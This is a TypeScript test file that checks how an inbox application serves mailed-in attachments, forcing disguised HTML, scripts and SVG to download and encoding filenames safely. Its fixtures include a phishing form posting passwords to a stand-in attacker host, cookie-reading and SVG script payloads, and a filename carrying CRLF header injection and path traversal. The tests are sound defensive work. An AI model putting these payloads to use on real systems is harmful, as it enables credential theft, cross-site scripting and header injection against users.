// An attachment a citizen (or anyone) mails in must never run in Balie's origin (issue 12.3): a part
// declared image/png but named inloggen.html, a script.js, an SVG. Served by a real Balie from
// PostgreSQL; what the browser is told decides what it does with the bytes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, startTestBalie, type TestBalie } from '../../support/balie.ts';
import { createTestDatabase, type TestDatabase } from '../../support/database.ts';
import { seedConversation } from '../inbox/seed.ts';

let db: TestDatabase;
let balie: TestBalie;
let cookie: string;
let messageId: number;

// A 1×1 PNG, a GIF header, a JPEG header and a WebP header: what the inbox may show inline.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const HTML = Buffer.from('<!doctype html><title>Inloggen</title><form action="https://evil.example/steal"><input name="password"></form><script>alert(1)</script>');

beforeAll(async () => {
  db = await createTestDatabase();
  balie = await startTestBalie(db.url);
  cookie = await balie.login(ADMIN.email, ADMIN.password);
  const conversation = await seedConversation(db.pool, { contact: { name: 'Inwoner', email: 'inwoner@example.nl' }, messages: [{ direction: 'in', text: 'Zie bijlage' }] });
  messageId = (await db.pool.query<{ id: number }>('SELECT id FROM messages WHERE conversation_id = $1', [conversation.id])).rows[0]!.id;
});
afterAll(async () => {
  await balie?.stop();
  await db?.drop();
});

async function attachment(filename: string | null, contentType: string, content: Buffer) {
  const { rows } = await db.pool.query<{ id: number }>(
    `INSERT INTO attachments (message_id, filename, content_type, size_bytes, sha256, content) VALUES ($1, $2, $3, $4, sha256($5), $5) RETURNING id`,
    [messageId, filename, contentType, content.length, content],
  );
  const response = await balie.request(`/api/attachments/${rows[0]!.id}`, { cookie });
  expect(response.status).toBe(200);
  return {
    type: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    nosniff: response.headers.get('x-content-type-options'),
    csp: response.headers.get('content-security-policy'),
    cache: response.headers.get('cache-control'),
    body: Buffer.from(await response.arrayBuffer()),
  };
}

const downloaded = { type: 'application/octet-stream', nosniff: 'nosniff', csp: "default-src 'none'; sandbox", cache: 'no-store' };

describe('GET /api/attachments/:id', () => {
  it('serves HTML declared image/png and named inloggen.html as a download, never text/html', async () => {
    const served = await attachment('inloggen.html', 'image/png', HTML);
    expect(served).toMatchObject(downloaded);
    expect(served.disposition).toMatch(/^attachment; filename="?inloggen\.html"?$/);
    expect(served.body.equals(HTML)).toBe(true);
  });

  it('serves script.js as a download, so <script src> under script-src \'self\' cannot run it', async () => {
    const served = await attachment('script.js', 'application/javascript', Buffer.from('alert(document.cookie)'));
    expect(served).toMatchObject(downloaded);
    expect(served.disposition).toMatch(/^attachment;/);
  });

  it('never shows SVG inline, whatever it is declared as', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
    for (const type of ['image/svg+xml', 'image/png']) {
      const served = await attachment('kaart.svg', type, svg);
      expect(served).toMatchObject(downloaded);
      expect(served.disposition).toMatch(/^attachment;/);
    }
  });

  it('shows a real PNG inline as image/png, by its bytes; a PNG named .html is saved as .png', async () => {
    expect(await attachment('foto.png', 'image/png', PNG)).toMatchObject({ type: 'image/png', disposition: expect.stringMatching(/^inline; filename="?foto\.png"?$/), nosniff: 'nosniff', cache: 'no-store' });
    expect(await attachment('inloggen.html', 'text/html', PNG)).toMatchObject({ type: 'image/png', disposition: expect.stringMatching(/^inline; filename="?inloggen\.html\.png"?$/) });
  });

  it('knows GIF, JPEG and WebP by their bytes, and nothing else inline', async () => {
    expect((await attachment('a.gif', 'application/octet-stream', Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'))).type).toBe('image/gif');
    expect((await attachment('a.jpg', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]))).type).toBe('image/jpeg');
    expect((await attachment('a.webp', 'image/webp', Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 ')]))).type).toBe('image/webp');
    expect((await attachment('a.pdf', 'application/pdf', Buffer.from('%PDF-1.7'))).type).toBe('application/octet-stream');
  });

  it('encodes an awkward file name safely (RFC 6266, RFC 5987): no header injection, no path', async () => {
    const served = await attachment('../../paspoort "scan"\r\nSet-Cookie: x=1;ë.pdf', 'application/pdf', Buffer.from('%PDF-1.7'));
    expect(served.disposition).not.toMatch(/[\r\n]/);
    expect(served.disposition).toMatch(/^attachment; filename="[^"\\/]*(\\"[^"\\/]*)*"; filename\*=UTF-8''/);
    expect(decodeURIComponent(served.disposition!.split("filename*=UTF-8''")[1]!)).toBe('paspoort "scan"Set-Cookie: x=1;ë.pdf');
  });

  it('answers unknown ids with 404', async () => {
    expect((await balie.request('/api/attachments/999999', { cookie })).status).toBe(404);
  });
});
